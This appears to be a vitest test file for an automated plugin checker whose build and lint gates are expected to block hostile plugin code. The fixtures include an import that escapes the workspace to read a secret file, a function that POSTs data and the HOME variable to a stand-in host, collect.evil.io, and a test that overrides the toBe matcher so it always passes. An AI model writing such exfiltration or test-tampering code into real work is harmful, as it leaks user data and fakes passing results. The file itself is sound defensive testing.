import fs from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { runChecks } from "../../../agents/tester/checks.ts";
import type { Layout } from "../../../agents/tester/gate.ts";
import { writeFolder, type Files } from "../../../shared/files.ts";
import type { Gate } from "../../../shared/results.ts";
import { sharedDataFolder } from "../../support/data-folder.ts";
import { greeterFiles } from "../../support/plugin-files.ts";
import { greeter } from "../../support/specifications.ts";
import { temporaryFolder } from "../../support/temporary-folder.ts";

const CANARY = "canary-7d1f3b";

/** Checks a greeter with these changes; beside its folder lies a file that is none of its business. */
async function check(changes: Files, layout?: Layout) {
  const root = temporaryFolder();
  const folder = path.join(root, "workspace");
  writeFolder(folder, greeterFiles(changes));
  fs.writeFileSync(path.join(root, "secret.ts"), `${CANARY} export const secret = "${CANARY}";\n`);
  const { gates } = await runChecks({
    folder,
    sandbox: "auto",
    dataDir: sharedDataFolder(),
    specification: greeter,
    signal: new AbortController().signal,
    timeoutMs: 120_000,
    ...(layout ? { layout } : {}),
  });
  const gate = (name: Gate["name"]): Gate | undefined => gates.find((each) => each.name === name);
  return { gates, gate, folder };
}

const told = (gate: Gate | undefined): string[] =>
  (gate?.findings ?? []).map(
    ({ severity, rule, file, line }) => `${severity} ${rule} ${file}:${line}`,
  );

test("a plugin that imports a file beside it is not built at all, and nothing of that file is printed", async () => {
  const { gates, gate, folder } = await check({
    "src/steal.ts": 'export { secret } from "../../secret.js";\n',
    "src/refer.ts": '/// <reference path="../../secret.ts" />\nexport const one = 1;\n',
  });
  expect(gate("build")).toMatchObject({
    status: "failed",
    summary: expect.stringContaining("not built") as string,
  });
  expect(told(gate("build"))).toEqual([
    "blocker leaves-plugin src/refer.ts:1",
    "blocker leaves-plugin src/steal.ts:1",
  ]);
  expect(fs.existsSync(path.join(folder, "dist"))).toBe(false);
  expect(JSON.stringify(gates)).not.toContain(CANARY);
  expect(gate("load")?.status).toBe("skipped");
});

test("what the specification does not say makes the lint gate red, each with its place", async () => {
  const { gate } = await check({
    "src/spy.ts": `export async function spy(text: string): Promise<void> {
  await fetch("https://collect.evil.io", { method: "POST", body: text + String(process.env.HOME) });
}
`,
    "src/__tests__/tampered.test.ts": `import { expect, test } from "vitest";
expect.extend({ toBe: () => ({ pass: true, message: () => "" }) });
test("one is two", () => { expect(1).toBe(2); });
`,
  });
  expect(gate("lint")).toMatchObject({
    status: "failed",
    summary: expect.stringMatching(/^\d+ files, 4 errors$/) as string,
  });
  expect(told(gate("lint"))).toEqual([
    "blocker undeclared-network src/spy.ts:2",
    "blocker undeclared-variable src/spy.ts:2",
    "blocker undeclared-host src/spy.ts:2",
    "blocker test-tampers src/__tests__/tampered.test.ts:2",
  ]);
});

test("a plugin without a specification is told what it can do, and red only for what nobody may", async () => {
  const layout = { entry: "src/index.ts", folders: ["src"], componentsKnown: false };
  const config = { "vitest.config.mjs": "export default {};" };
  const asking = 'export const ask = (): Promise<unknown> => fetch("https://api.acme.io");\n';
  const open = await check({ ...config, "src/ask.ts": asking }, layout);
  expect(open.gate("lint")?.status).toBe("passed");
  expect(
    open.gate("lint")?.findings.map(({ severity, message }) => `${severity} ${message}`),
  ).toEqual(["note It uses the network: fetch.", "note It speaks with: api.acme.io."]);
  const leaving = await check(
    { ...config, "src/leave.ts": "export const leave = (): never => process.exit(1);\n" },
    layout,
  );
  expect(told(leaving.gate("lint"))).toEqual(["blocker process-control src/leave.ts:1"]);
});
